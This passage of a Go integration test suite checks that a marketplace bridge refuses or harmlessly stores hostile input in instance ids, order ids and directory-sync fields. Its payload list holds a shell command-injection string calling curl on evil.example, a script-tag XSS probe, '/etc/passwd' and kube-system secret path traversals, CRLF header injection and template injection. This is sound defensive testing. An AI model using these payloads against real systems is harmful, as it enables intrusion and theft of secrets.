			{"testFlag a number", basic(map[string]any{"activity": "updateInstanceStatus", "instanceId": f.id, "status": "FREEZE", "testFlag": 0}), protocol.CodeInvalidParam},
			{"activity a number", basic(map[string]any{"activity": 1, "instanceId": f.id, "status": "FREEZE"}), protocol.CodeInvalidParam},
			{"activity null", basic(map[string]any{"activity": nil, "instanceId": f.id, "status": "FREEZE"}), protocol.CodeInvalidParam},
			{"expireTime a number", basic(map[string]any{"activity": "refreshInstance", "instanceId": f.id, "orderId": "o", "orderLineId": "l", "scene": "RENEWAL", "expireTime": 20991231235959}), protocol.CodeInvalidParam},
			{"productInfo a string", basic(map[string]any{"activity": "changeInstanceCheck", "instanceId": f.id, "productInfo": "tenantry.large"}), protocol.CodeInvalidParam},
			{"productInfo two products", basic(map[string]any{"activity": "changeInstanceCheck", "instanceId": f.id, "productInfo": []map[string]string{{"productId": "p", "skuCode": skuLarge}, {"productId": "p", "skuCode": skuSmall}}}), protocol.CodeInvalidParam},
			{"kit: flag a string", kit(protocol.KitTenantSync, kitBase(map[string]any{"flag": "1"})), protocol.CodeInvalidParam},
			{"kit: flag a float", kit(protocol.KitTenantSync, kitBase(map[string]any{"flag": 1.5})), protocol.CodeInvalidParam},
			{"kit: flag out of range", kit(protocol.KitTenantSync, kitBase(map[string]any{"flag": 3})), protocol.CodeInvalidParam},
			{"kit: testFlag a boolean", kit(protocol.KitTenantSync, kitBase(map[string]any{"testFlag": false})), protocol.CodeInvalidParam},
			{"kit: timeStamp a number", kit(protocol.KitTenantSync, kitBase(map[string]any{"timeStamp": 20220413093539534})), protocol.CodeInvalidParam},
			{"kit: userList an object", kit(protocol.KitAuthSync, kitBase(map[string]any{"appId": "app-1", "userList": map[string]string{"userName": "mallory"}})), protocol.CodeInvalidParam},
			{"kit: 501 users", kit(protocol.KitAuthSync, kitBase(map[string]any{"appId": "app-1", "userList": manyUsers(protocol.MaxKitUsers + 1)})), protocol.CodeInvalidParam},
			{"kit: orgInfoList a number", kit(protocol.KitAllOrgSync, kitBase(map[string]any{"orgInfoList": 7})), protocol.CodeInvalidParam},
			{"kit: orgInfoList a string that is not an array", kit(protocol.KitAllOrgSync, kitBase(map[string]any{"orgInfoList": `{"orgCode":"x"}`})), protocol.CodeInvalidParam},

			// Unknown activities and kit names → 000002, after verification.
			{"unknown activity", basic(map[string]any{"activity": "deleteEverything", "instanceId": f.id}), protocol.CodeInvalidParam},
			{"activity in the wrong case", basic(map[string]any{"activity": "ReleaseInstance", "instanceId": f.id}), protocol.CodeInvalidParam},
			{"activity with a trailing space", basic(map[string]any{"activity": "releaseInstance ", "instanceId": f.id}), protocol.CodeInvalidParam},
			{"V1 activity name in V2", basic(map[string]any{"activity": "expireInstance", "instanceId": f.id}), protocol.CodeInvalidParam},
			{"missing activity", basic(map[string]any{"instanceId": f.id, "status": "FREEZE"}), protocol.CodeInvalidParam},
			{"kit: unknown name", kit("deleteTenant", kitBase(nil)), protocol.CodeInvalidParam},
			{"kit: name in the wrong case", kit("TenantSync", kitBase(nil)), protocol.CodeInvalidParam},
			{"kit: dot segments in the name", kit("tenantSync/../authSync", kitBase(nil)), protocol.CodeInvalidParam},
			{"kit: encoded NUL in the name", kit("tenantSync%00", kitBase(nil)), protocol.CodeInvalidParam},
			{"v1: unknown activity", v1Call(v1Params("activity", "deleteEverything", "instanceId", f.v1ID), nil), protocol.CodeInvalidParam},
			{"v1: V2 activity name", v1Call(v1Params("activity", "updateInstanceStatus", "instanceId", f.v1ID, "status", "FREEZE"), nil), protocol.CodeInvalidParam},
		}, nil)

		// A user's enable is only stored (docs/protocol.md §6.11): a JSON boolean is read as its
		// literal, not refused. The first call adds the user disabled, the second enables it.
		enableAs := func(enable bool) func(time.Time) func() *http.Request {
			return func(ts time.Time) func() *http.Request {
				return kit(protocol.KitAuthSync, kitBase(map[string]any{"appId": "app-1", "timeStamp": kitTS(ts),
					"userList": []map[string]any{{"userName": "mallory", "name": "M", "orgCode": "rd", "role": "admin", "enable": enable}}}))
			}
		}
		readEnabled := func(g Gomega) (string, *metav1.MicroTime) {
			u := hostileUser(g, f.id, "app-1", "mallory")
			return strconv.FormatBool(u.Enabled), u.SyncedAt
		}
		runStored(t, f.id, []storedCase{
			{name: "kit: user enable false as a boolean", req: enableAs(false), want: "false", max: 5, read: readEnabled},
			{name: "kit: user enable a boolean", req: enableAs(true), want: "true", max: 5, read: readEnabled},
		}, nil)
	})

	t.Run("instance ids", func(t *testing.T) {
		refresh := func(id string) []byte {
			return jsonBody(map[string]any{"activity": "refreshInstance", "instanceId": id, "orderId": "CSRENEW1", "orderLineId": "CSRENEW1-1", "scene": "RENEWAL", "expireTime": "20991231235959"})
		}
		releaseOf := func(id string) []byte {
			return jsonBody(map[string]any{"activity": "releaseInstance", "instanceId": id})
		}
		tenantOf := func(id string) []byte {
			return jsonBody(map[string]any{"instanceId": id, "tenantId": hostileTenant, "flag": 1, "testFlag": 0, "timeStamp": kitTS(time.Now())})
		}
		var cases []hostileCase
		for _, tc := range []struct {
			name, id string
			// status/refresh/kit answer for an id that passes the decoder but cannot name an
			// instance (000003: it does not exist); release says 000000 for the same reason
			// (docs/protocol.md §6.2 Rule: the goal state holds).
			code string
		}{
			{"upper case", strings.ToUpper(f.id), protocol.CodeInstanceNotFound},
			{"underscore", strings.ReplaceAll(f.id, "-", "_"), protocol.CodeInstanceNotFound},
			{"dot", f.id + ".x", protocol.CodeInstanceNotFound},
			{"leading hyphen", "-" + f.id, protocol.CodeInstanceNotFound},
			{"57 characters", "ti-" + strings.Repeat("a", 54), protocol.CodeInstanceNotFound},
			{"path traversal", "../../api/v1/namespaces/kube-system/secrets", protocol.CodeInstanceNotFound},
			{"subresource", f.id + "/status", protocol.CodeInstanceNotFound},
			{"URL-encoded slash", f.id + "%2Fstatus", protocol.CodeInstanceNotFound},
			{"query string", f.id + "?dryRun=All", protocol.CodeInstanceNotFound},
			{"emoji", "ti-🚀", protocol.CodeInstanceNotFound},
			{"full-width digits", "ti-" + toFullWidth("0123456789"), protocol.CodeInstanceNotFound},
			{"65 characters", "ti-" + strings.Repeat("a", 62), protocol.CodeInvalidParam},
			{"with a space", f.id + " x", protocol.CodeInvalidParam},
			{"NUL escape", f.id + "\x00", protocol.CodeInvalidParam},
			{"CRLF", f.id + "\r\nX-Injected: 1", protocol.CodeInvalidParam},
			{"right-to-left override", "ti-\u202e" + f.id[3:], protocol.CodeInvalidParam},
			{"zero-width space", f.id[:5] + "\u200b" + f.id[5:], protocol.CodeInvalidParam},
			{"replacement character", f.id + "\ufffd", protocol.CodeInvalidParam},
		} {
			releaseCode := tc.code
			if releaseCode == protocol.CodeInstanceNotFound {
				releaseCode = protocol.CodeSuccess
			}
			cases = append(cases,
				hostileCase{"status " + tc.name, basicCall(status(tc.id), nil), tc.code},
				hostileCase{"refresh " + tc.name, basicCall(refresh(tc.id), nil), tc.code},
				hostileCase{"query " + tc.name, basicCall(query(tc.id), nil), tc.code},
				hostileCase{"release " + tc.name, basicCall(releaseOf(tc.id), nil), releaseCode},
				hostileCase{"kit " + tc.name, kitCall(protocol.KitTenantSync, tenantOf(tc.id), nil), tc.code},
				hostileCase{"v1 " + tc.name, v1Call(v1Params("activity", "instanceStatus", "instanceId", tc.id, "instanceStatus", "FREEZE"), nil), tc.code},
			)
		}
		cases = append(cases,
			// queryInstance takes up to 100 ids (docs/protocol.md §5, §6.1: >100 ids → 000002).
			hostileCase{"query 101 ids", basicCall(query(ids(101)), nil), protocol.CodeInvalidParam},
			hostileCase{"query 101 ids, all the same", basicCall(query(strings.TrimSuffix(strings.Repeat(f.id+",", 101), ",")), nil), protocol.CodeInvalidParam},
			hostileCase{"query 5000 commas", basicCall(query(strings.Repeat(",", 5000)), nil), protocol.CodeInvalidParam},
			hostileCase{"query 100 unknown ids", basicCall(query(ids(100)), nil), protocol.CodeInstanceNotFound},
			hostileCase{"query an empty id in the list", basicCall(query(unknownID+",,"+unknownID), nil), protocol.CodeInvalidParam},
			hostileCase{"v1 query 101 ids", v1Call(v1Params("activity", "queryInstance", "instanceId", ids(101)), nil), protocol.CodeInvalidParam},
		)
		runHostile(t, cases, nil)
	})

	t.Run("order ids", func(t *testing.T) {
		// spec.order.orderId, orderLineId and the spec.marketplace order ids hold at most 64
		// characters, so a longer order id can never be recorded: a bad parameter (000002), not a
		// failure worth resending for hours (000005), and not worth an Order Query.
		long := "CS" + strings.Repeat("9", 63)
		runHostile(t, []hostileCase{
			{"newInstance orderId of 65 characters", basicCall(jsonBody(map[string]any{"activity": "newInstance", "orderId": long, "orderLineId": long + "-1", "businessId": "b"}), nil), protocol.CodeInvalidParam},
			{"newInstance orderLineId of 65 characters", basicCall(jsonBody(map[string]any{"activity": "newInstance", "orderId": f.orderID, "orderLineId": long, "businessId": "b"}), nil), protocol.CodeInvalidParam},
			{"refreshInstance orderId of 65 characters", basicCall(jsonBody(map[string]any{"activity": "refreshInstance", "instanceId": f.id, "orderId": long, "orderLineId": "l", "scene": "RENEWAL", "expireTime": "20991231235959"}), nil), protocol.CodeInvalidParam},
			{"upgradeInstance orderId of 65 characters", basicCall(jsonBody(map[string]any{"activity": "upgradeInstance", "instanceId": f.id, "orderId": long, "orderLineId": long + "-1"}), nil), protocol.CodeInvalidParam},
			{"upgradeInstance orderLineId of 65 characters", basicCall(jsonBody(map[string]any{"activity": "upgradeInstance", "instanceId": f.id, "orderId": f.upgradeOrderID, "orderLineId": long}), nil), protocol.CodeInvalidParam},
			{"v1 newInstance orderId of 65 characters", v1Call(v1Params("activity", "newInstance", "orderId", long, "businessId", "b", "customerId", "c",
				"productId", "p", "skuCode", skuSmall), nil), protocol.CodeInvalidParam},
			{"v1 upgrade orderId of 65 characters", v1Call(v1Params("activity", "upgrade", "instanceId", f.v1ID, "orderId", long, "skuCode", skuLarge), nil), protocol.CodeInvalidParam},
		}, nil)
	})

	t.Run("injection", func(t *testing.T) {
		cases, echoes := injectionCases(f)
		runHostile(t, cases, echoes)
		stored, storedEchoes := storedInjectionCases(f)
		runStored(t, f.id, stored, storedEchoes)
	})
}

// manyUsers is a userList of n valid users.
func manyUsers(n int) []map[string]string {
	out := make([]map[string]string, n)
	for i := range out {
		out[i] = map[string]string{"userName": fmt.Sprintf("u%d", i), "name": "U", "orgCode": "rd", "role": "user", "enable": "true"}
	}
	return out
}

// toFullWidth writes ASCII digits as their full-width forms (U+FF10..U+FF19).
func toFullWidth(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= '0' && r <= '9' {
			return r - '0' + '０'
		}
		return r
	}, s)
}

func mustGet(u string) *http.Request {
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		panic(err)
	}
	return req
}

// ---- injection into every string field ----

// payload is a hostile string and how the decoders' documented character rules class it:
// refused in every field the bridge acts on (control characters, bidi overrides, invalid text),
// refused in identifiers only (whitespace, invisible formatting), or plain data everywhere. A field
// the bridge only stores takes every payload (docs/protocol.md §6.11): asText and asCode are what
// it stores in a text field and in a code field when that differs from value (control and bidi
// characters removed; in a code, invisible formatting characters too), before the cut to the
// field's length.
type payload struct {
	name, value      string
	refused, notAnID bool
	asText, asCode   string
}

var payloads = []payload{
	{name: "yaml block", value: "a: b\n- c: {d: e}", refused: true, asText: "a: b- c: {d: e}", asCode: "a: b- c: {d: e}"},
	{name: "yaml flow", value: "&a [*a, *a]", notAnID: true},
	{name: "json breakout", value: `","status":"FREEZE","x":"`},
	{name: "label selector", value: "app=x,tier!=y"},
	{name: "cel", value: "self.spec.sku=='x'||true"},
	{name: "shell", value: "$(curl${IFS}evil.example)`id`;rm"},
	{name: "html", value: "<script>alert(1)</script>"},
	{name: "path traversal", value: "../../../etc/passwd"},
	{name: "go template", value: "{{.Values.secret}}"},
	{name: "crlf header", value: "x\r\nSet-Cookie: a=b", refused: true, asText: "xSet-Cookie: a=b", asCode: "xSet-Cookie: a=b"},
	{name: "nul", value: "a\x00b", refused: true, asText: "ab", asCode: "ab"},
	{name: "rtl override", value: "abc\u202egpj.exe", refused: true, asText: "abcgpj.exe", asCode: "abcgpj.exe"},
	{name: "zero-width space", value: "ad\u200bmin", notAnID: true, asCode: "admin"},
	{name: "emoji", value: "🚀"},
	{name: "emoji joiner sequence", value: "👩\u200d💻", notAnID: true, asCode: "👩💻"},
	{name: "full-width digits", value: toFullWidth("0123")},
	{name: "300 characters", value: strings.Repeat("x", 300)},
}

// stored is what a stored-only field of at most limit characters keeps of p: its clean form, cut.
func (p payload) stored(code bool, limit int) string {
	v := p.value
	switch {
	case code && p.asCode != "":
		v = p.asCode
	case !code && p.asText != "":
		v = p.asText
	}
	if r := []rune(v); len(r) > limit {
		v = string(r[:limit])
	}
	return v
}

// target is one string field of one call the bridge acts on, the decoder's bound on it
// (characters), whether it is an identifier, an enumeration or must match a pattern, and in ok the
// code a real call whose value passed the decoder would get. The injection calls are debug calls,
// which are answered as on success instead (docs/protocol.md §6.5): what a real call would have
// refused is a pre-flight finding.
type target struct {
	call, field string
	id, enum    bool
	pattern     *regexp.Regexp
	max         int
	ok          string
	build       func(value string) func() *http.Request
}

func (tg target) want(p payload) string {
	switch {
	case p.refused, tg.enum, tg.id && p.notAnID, utf8.RuneCountInString(p.value) > tg.max,
		tg.pattern != nil && !tg.pattern.MatchString(p.value):
		return protocol.CodeInvalidParam
	}
	return protocol.CodeSuccess // a debug call, whatever tg.ok a real one would get
}

// kitAppIDPattern is what an appId may be: it becomes part of Secret data keys (docs/protocol.md §5).
var kitAppIDPattern = regexp.MustCompile(`^[-._a-zA-Z0-9]{1,64}$`)

// injectionCases puts every payload into every string field of every call, one at a time. The
// calls are debug calls (testFlag 1) against the fixture, so what passes the decoder runs its full
// course, API server validation included, as a server-side dry run: the table shows that hostile
// strings are inert data, never that they were stored.
func injectionCases(f hostileFixture) ([]hostileCase, map[string]string) {
	basic := func(base map[string]any, field string) func(string) func() *http.Request {
		return func(v string) func() *http.Request {
			m := map[string]any{"testFlag": "1"}
			for k, x := range base {
				m[k] = x
			}
			m[field] = v
			return basicCall(jsonBody(m), nil)
		}
	}
	product := func(field string) func(string) func() *http.Request {
		return func(v string) func() *http.Request {
			p := map[string]any{"productId": "00301-111111-0--0", "skuCode": skuLarge}
			p[field] = v
			return basicCall(jsonBody(map[string]any{"activity": "changeInstanceCheck", "instanceId": f.id, "productInfo": p, "testFlag": "1"}), nil)
		}
	}
	kit := func(name string, base map[string]any, field string) func(string) func() *http.Request {
		return func(v string) func() *http.Request {
			m := map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "testFlag": 1, "timeStamp": kitTS(time.Now())}
			for k, x := range base {
				m[k] = x
			}
			m[field] = v
			return kitCall(name, jsonBody(m), nil)
		}
	}
	user := func(field string) func(string) func() *http.Request {
		return func(v string) func() *http.Request {
			u := map[string]any{"userName": "mallory", "name": "Mallory", "orgCode": "rd", "role": "user", "enable": "true",
				"mobile": "13800000000", "email": "m@example.com", "position": "p", "employeeCode": "e1", "employeeType": "t"}
			u[field] = v
			return kitCall(protocol.KitAuthSync, jsonBody(map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "appId": "app-1",
				"flag": 1, "testFlag": 1, "timeStamp": kitTS(time.Now()), "userList": []any{u}}), nil)
		}
	}
	org := func(field string) func(string) func() *http.Request {
		return func(v string) func() *http.Request {
			o := map[string]any{"orgCode": "ops", "orgName": "Ops", "parentCode": "rd"}
			o[field] = v
			return kitCall(protocol.KitAllOrgSync, jsonBody(map[string]any{"instanceId": f.id, "tenantId": hostileTenant,
				"testFlag": 1, "timeStamp": kitTS(time.Now()), "orgInfoList": []any{o}}), nil)
		}
	}
	v1 := func(base url.Values, field string) func(string) func() *http.Request {
		return func(v string) func() *http.Request {
			q := url.Values{"testFlag": {"1"}}
			for k, x := range base {
				q[k] = x
			}
			q.Set(field, v)
			return v1Call(q, nil)
		}
	}

	newInstance := map[string]any{"activity": "newInstance", "orderId": f.orderID, "orderLineId": f.lineID, "businessId": "b-1"}
	refresh := map[string]any{"activity": "refreshInstance", "instanceId": f.id, "orderId": "CSRENEW1", "orderLineId": "CSRENEW1-1", "scene": "RENEWAL", "expireTime": "20991231235959", "productId": "p"}
	status := map[string]any{"activity": "updateInstanceStatus", "instanceId": f.id, "status": "UNFREEZE"}
	upgrade := map[string]any{"activity": "upgradeInstance", "instanceId": f.id, "orderId": f.upgradeOrderID, "orderLineId": f.upgradeOrderID + "-000001"}
	release := map[string]any{"activity": "releaseInstance", "instanceId": f.id, "orderId": f.orderID, "orderLineId": f.lineID}
	app := map[string]any{"appId": "app-9", "clientId": "client-9", "clientSecret": f.secret, "flag": 1}
	v1New := url.Values{"activity": {"newInstance"}, "orderId": {f.v1OrderID}, "businessId": {"b-1"}, "customerId": {"cust-hostile"},
		"productId": {"00301-333333-0--0"}, "skuCode": {skuSmall}}
	v1Fresh := url.Values{"activity": {"newInstance"}, "orderId": {"CSV1FRESH" + nonce()[:8]}, "businessId": {"b-1"}, "customerId": {"c"},
		"productId": {"00301-333333-0--0"}, "skuCode": {skuSmall}}

	const (
		ok        = protocol.CodeSuccess
		param     = protocol.CodeInvalidParam
		notFound  = protocol.CodeInstanceNotFound
		internal  = protocol.CodeInternalError
		field     = protocol.MaxFieldLength
		iid       = protocol.MaxInstanceIDLength
		order     = protocol.MaxOrderIDLength
		long      = protocol.MaxLongFieldLength
		customer  = protocol.MaxCustomerIDLength
		productID = protocol.MaxProductIDLength
		tenantID  = protocol.MaxKitTenantIDLength
		appID     = protocol.MaxKitAppIDLength
	)
	targets := []target{
		// Every activity: the selector itself and testFlag are enumerations.
		{call: "basic", field: "activity", enum: true, build: basic(release, "activity")},
		{call: "basic", field: "testFlag", enum: true, build: basic(release, "testFlag")},
		// newInstance: ids the marketplace does not know → 000002 (Order Query: no such order);
		// businessId is not an identity (§6.2), so the existing order answers 000000.
		{call: "newInstance", field: "orderId", id: true, max: order, ok: param, build: basic(newInstance, "orderId")},
		{call: "newInstance", field: "orderLineId", id: true, max: order, ok: param, build: basic(newInstance, "orderLineId")},
		{call: "newInstance", field: "businessId", id: true, max: field, ok: ok, build: basic(newInstance, "businessId")},
		// An id that is no instance name is unknown (000003); a list of them too.
		{call: "queryInstance", field: "instanceId", id: true, max: iid, ok: notFound, build: basic(map[string]any{"activity": "queryInstance"}, "instanceId")},
		{call: "refreshInstance", field: "instanceId", id: true, max: iid, ok: notFound, build: basic(refresh, "instanceId")},
		{call: "refreshInstance", field: "orderId", id: true, max: order, ok: ok, build: basic(refresh, "orderId")},
		{call: "refreshInstance", field: "orderLineId", id: true, max: order, ok: ok, build: basic(refresh, "orderLineId")},
		{call: "refreshInstance", field: "productId", id: true, max: productID, ok: ok, build: basic(refresh, "productId")},
		{call: "refreshInstance", field: "scene", enum: true, build: basic(refresh, "scene")},
		{call: "refreshInstance", field: "expireTime", enum: true, build: basic(refresh, "expireTime")},
		{call: "updateInstanceStatus", field: "instanceId", id: true, max: iid, ok: notFound, build: basic(status, "instanceId")},
		{call: "updateInstanceStatus", field: "status", enum: true, build: basic(status, "status")},
		{call: "upgradeInstance", field: "instanceId", id: true, max: iid, ok: notFound, build: basic(upgrade, "instanceId")},
		{call: "upgradeInstance", field: "orderId", id: true, max: order, ok: param, build: basic(upgrade, "orderId")},
		{call: "upgradeInstance", field: "orderLineId", id: true, max: order, ok: param, build: basic(upgrade, "orderLineId")},
		{call: "changeInstanceCheck", field: "instanceId", id: true, max: iid, ok: notFound,
			build: basic(map[string]any{"activity": "changeInstanceCheck", "productInfo": map[string]any{"productId": "p", "skuCode": skuLarge}}, "instanceId")},
		{call: "changeInstanceCheck", field: "productInfo.productId", id: true, max: field, ok: ok, build: product("productId")},
		// A target SKU no plan serves → 000002 (documented for changeInstanceCheck).
		{call: "changeInstanceCheck", field: "productInfo.skuCode", id: true, max: field, ok: param, build: product("skuCode")},
		{call: "changeInstanceCheck", field: "productInfo.linearValue", enum: true, build: product("linearValue")},
		// Release of what cannot exist holds the goal state (000000); a debug release deletes nothing.
		{call: "releaseInstance", field: "instanceId", id: true, max: iid, ok: ok, build: basic(release, "instanceId")},
		{call: "releaseInstance", field: "orderId", id: true, max: field, ok: ok, build: basic(release, "orderId")},
		{call: "releaseInstance", field: "orderLineId", id: true, max: field, ok: ok, build: basic(release, "orderLineId")},

		// Kit calls: the fields the bridge acts on stay strict (docs/protocol.md §6.11). The fields
		// it only stores are in storedInjectionCases. tenantSync binds whatever tenant the
		// marketplace names (a dry run here).
		{call: "tenantSync", field: "instanceId", id: true, max: iid, ok: notFound, build: kit(protocol.KitTenantSync, map[string]any{"flag": 2}, "instanceId")},
		{call: "tenantSync", field: "orderId", id: true, max: field, ok: ok, build: kit(protocol.KitTenantSync, map[string]any{"flag": 2}, "orderId")},
		{call: "tenantSync", field: "tenantId", id: true, max: tenantID, ok: ok, build: kit(protocol.KitTenantSync, map[string]any{"flag": 2}, "tenantId")},
		{call: "tenantSync", field: "timeStamp", enum: true, build: kit(protocol.KitTenantSync, map[string]any{"flag": 2}, "timeStamp")},
		{call: "tenantSync", field: "flag", enum: true, build: kit(protocol.KitTenantSync, nil, "flag")},
		{call: "tenantSync", field: "testFlag", enum: true, build: kit(protocol.KitTenantSync, map[string]any{"flag": 2}, "testFlag")},
		// Another tenant than the instance's → 000002 (documented); a clientSecret that is no
		// ciphertext under the merchant key → 000002. An appId must be usable in a Secret key.
		{call: "applicationSync", field: "tenantId", id: true, max: tenantID, ok: param, build: kit(protocol.KitApplicationSync, app, "tenantId")},
		{call: "applicationSync", field: "appId", id: true, pattern: kitAppIDPattern, max: appID, ok: ok, build: kit(protocol.KitApplicationSync, app, "appId")},
		{call: "applicationSync", field: "clientId", id: true, max: field, ok: ok, build: kit(protocol.KitApplicationSync, app, "clientId")},
		{call: "applicationSync", field: "clientSecret", max: long, ok: param, build: kit(protocol.KitApplicationSync, app, "clientSecret")},
		{call: "authSync", field: "tenantId", id: true, max: tenantID, ok: param, build: kit(protocol.KitAuthSync, map[string]any{"appId": "app-1", "flag": 1, "userList": []any{}}, "tenantId")},
		{call: "authSync", field: "appId", id: true, pattern: kitAppIDPattern, max: appID, ok: ok, build: kit(protocol.KitAuthSync, map[string]any{"flag": 1, "userList": manyUsers(1)}, "appId")},
		{call: "authSync", field: "userList[].userName", id: true, max: field, ok: ok, build: user("userName")},
		{call: "singleOrgSync", field: "tenantId", id: true, max: tenantID, ok: param, build: kit(protocol.KitSingleOrgSync, map[string]any{"orgCode": "ops", "orgName": "Ops", "flag": 1}, "tenantId")},
		{call: "singleOrgSync", field: "orgCode", id: true, max: field, ok: ok, build: kit(protocol.KitSingleOrgSync, map[string]any{"orgName": "Ops", "flag": 1}, "orgCode")},
		{call: "allOrgSync", field: "tenantId", id: true, max: tenantID, ok: param, build: kit(protocol.KitAllOrgSync, map[string]any{"orgInfoList": []any{}}, "tenantId")},
		{call: "allOrgSync", field: "orgInfoList[].orgCode", id: true, max: field, ok: ok, build: org("orgCode")},

		// V1: the same decoders over query parameters.
		{call: "v1 instanceStatus", field: "instanceId", id: true, max: iid, ok: notFound,
			build: v1(url.Values{"activity": {"instanceStatus"}, "instanceStatus": {"NORMAL"}}, "instanceId")},
		{call: "v1 instanceStatus", field: "instanceStatus", enum: true, build: v1(url.Values{"activity": {"instanceStatus"}, "instanceId": {f.v1ID}}, "instanceStatus")},
		{call: "v1 refreshInstance", field: "orderId", id: true, max: order, ok: ok,
			build: v1(url.Values{"activity": {"refreshInstance"}, "instanceId": {f.v1ID}, "expireTime": {"20991231235959"}}, "orderId")},
		// The existing V1 order answers its instanceId whatever else the resend carries.
		{call: "v1 newInstance", field: "businessId", id: true, max: field, ok: ok, build: v1(v1New, "businessId")},
		{call: "v1 newInstance", field: "customerId", id: true, max: customer, ok: ok, build: v1(v1New, "customerId")},
		{call: "v1 newInstance", field: "productId", id: true, max: productID, ok: ok, build: v1(v1New, "productId")},
		{call: "v1 newInstance", field: "customerName", max: field, ok: ok, build: v1(v1New, "customerName")},
		{call: "v1 newInstance", field: "userName", max: field, ok: ok, build: v1(v1New, "userName")},
		{call: "v1 newInstance", field: "mobilePhone", max: field, ok: ok, build: v1(v1New, "mobilePhone")},
		{call: "v1 newInstance", field: "email", max: field, ok: ok, build: v1(v1New, "email")},
		{call: "v1 newInstance", field: "saasExtendParams", max: long, ok: ok, build: v1(v1New, "saasExtendParams")},
		// A SKU no plan serves → 000005 (documented: the marketplace resends while a plan is added).
		{call: "v1 newInstance", field: "skuCode", id: true, max: field, ok: internal, build: v1(v1Fresh, "skuCode")},
		{call: "v1 upgrade", field: "skuCode", id: true, max: field, ok: internal,
			build: v1(url.Values{"activity": {"upgrade"}, "instanceId": {f.v1ID}, "orderId": {"CSV1UPG1"}}, "skuCode")},
		{call: "v1 releaseInstance", field: "instanceId", id: true, max: iid, ok: ok, build: v1(url.Values{"activity": {"releaseInstance"}}, "instanceId")},
	}

	var cases []hostileCase
	echoes := map[string]string{}
	for _, tg := range targets {
		for _, p := range payloads {
			name := tg.call + " " + tg.field + " " + p.name
			cases = append(cases, hostileCase{name: name, req: tg.build(p.value), code: tg.want(p)})
			echoes[name] = p.value
		}
	}
	return cases, echoes
}

// ---- injection into the fields the bridge only stores ----

// storedCase is a real kit call carrying a hostile value in a field the bridge only stores. It is
// accepted (docs/protocol.md §6.11) and applied: read reads the field back from the API server,
// with the marketplace time the entry records (nil where none is kept); want is the clean value,
// cut to max characters. code is true for a code, which also loses invisible formatting characters.
type storedCase struct {
	name string
	req  func(ts time.Time) func() *http.Request
	want string
	max  int
	code bool
	read func(g Gomega) (value string, syncedAt *metav1.MicroTime)
	// notIn, when set, lists what must not hold the value: a field the bridge reads but keeps
	// nowhere.
	notIn func(g Gomega) []byte
}

var kitClock struct {
	mu   sync.Mutex
	last time.Time
}

// nextKitTime is a kit timeStamp later than every one before it: kit changes are ordered per key
// by it (docs/protocol.md §6.11), so two real calls in the same millisecond would otherwise make
// the second one stale.
func nextKitTime() time.Time {
	kitClock.mu.Lock()
	defer kitClock.mu.Unlock()
	t := time.Now().Truncate(time.Millisecond)
	if !t.After(kitClock.last) {
		t = kitClock.last.Add(time.Millisecond)
	}
	kitClock.last = t
	return t
}

// hostileUser finds the user appId/userName in the instance's directory shards, wherever its
// shard is.
func hostileUser(g Gomega, id, appID, userName string) tenantryv1alpha1.DirectoryUser {
	var found []tenantryv1alpha1.DirectoryUser
	for _, d := range shards(g, id) {
		for _, u := range d.Spec.Users {
			if u.AppID == appID && u.UserName == userName {
				found = append(found, u)
			}
		}
	}
	g.ExpectWithOffset(1, found).To(HaveLen(1), "user %s/%s is in exactly one shard", appID, userName)
	return found[0]
}

// hostileOrg finds the department orgCode in the instance's directory shards.
func hostileOrg(g Gomega, id, orgCode string) tenantryv1alpha1.DirectoryOrg {
	var found []tenantryv1alpha1.DirectoryOrg
	for _, d := range shards(g, id) {
		for _, o := range d.Spec.Orgs {
			if o.OrgCode == orgCode {
				found = append(found, o)
			}
		}
	}
	g.ExpectWithOffset(1, found).To(HaveLen(1), "department %s is in exactly one shard", orgCode)
	return found[0]
}

// storedInjectionCases puts every payload into every field the bridge only stores, one at a
// time, in real calls against the fixture: each is accepted and stored clean.
func storedInjectionCases(f hostileFixture) ([]storedCase, map[string]string) {
	kitBody := func(extra map[string]any, ts time.Time) map[string]any {
		m := map[string]any{"instanceId": f.id, "tenantId": hostileTenant, "testFlag": 0, "timeStamp": kitTS(ts)}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	tenant := func(field, v string) func(time.Time) func() *http.Request {
		return func(ts time.Time) func() *http.Request {
			return kitCall(protocol.KitTenantSync, jsonBody(kitBody(map[string]any{"flag": 2, field: v}, ts)), nil)
		}
	}
	userWith := func(field string, v any, extra map[string]any) func(time.Time) func() *http.Request {
		return func(ts time.Time) func() *http.Request {
			u := map[string]any{"userName": "mallory", "name": "Mallory", "orgCode": "rd", "role": "user", "enable": "true",
				"mobile": "13800000000", "email": "m@example.com", "position": "p", "employeeCode": "e1", "employeeType": "t"}
			if field != "" {
				u[field] = v
			}
			m := map[string]any{"appId": "app-1", "flag": 1, "userList": []any{u}}
			for k, x := range extra {
				m[k] = x
			}
			return kitCall(protocol.KitAuthSync, jsonBody(kitBody(m, ts)), nil)
		}
	}
	single := func(field, v string) func(time.Time) func() *http.Request {
		return func(ts time.Time) func() *http.Request {
			m := map[string]any{"orgCode": "ops", "orgName": "Ops", "flag": 1}
			m[field] = v
			return kitCall(protocol.KitSingleOrgSync, jsonBody(kitBody(m, ts)), nil)
		}
	}
	all := func(field, v string) func(time.Time) func() *http.Request {
		return func(ts time.Time) func() *http.Request {
			o := map[string]any{"orgCode": "ops", "orgName": "Ops", "parentCode": "rd"}
			o[field] = v
			return kitCall(protocol.KitAllOrgSync, jsonBody(kitBody(map[string]any{"orgInfoList": []any{o}}, ts)), nil)
		}
	}
	readTenant := func(get func(*tenantryv1alpha1.Tenant) string) func(Gomega) (string, *metav1.MicroTime) {
		return func(g Gomega) (string, *metav1.MicroTime) {
			ti := getInstance(g, f.id)
			g.Expect(ti.Spec.Tenant).NotTo(BeNil())
			g.Expect(ti.Spec.Tenant.TenantID).To(Equal(hostileTenant))
			return get(ti.Spec.Tenant), nil
		}
	}
	readUser := func(get func(tenantryv1alpha1.DirectoryUser) string) func(Gomega) (string, *metav1.MicroTime) {
		return func(g Gomega) (string, *metav1.MicroTime) {
			u := hostileUser(g, f.id, "app-1", "mallory")
			return get(u), u.SyncedAt
		}
	}
	readOrg := func(get func(tenantryv1alpha1.DirectoryOrg) string) func(Gomega) (string, *metav1.MicroTime) {
		return func(g Gomega) (string, *metav1.MicroTime) {
			o := hostileOrg(g, f.id, "ops")
			return get(o), o.SyncedAt
		}
	}
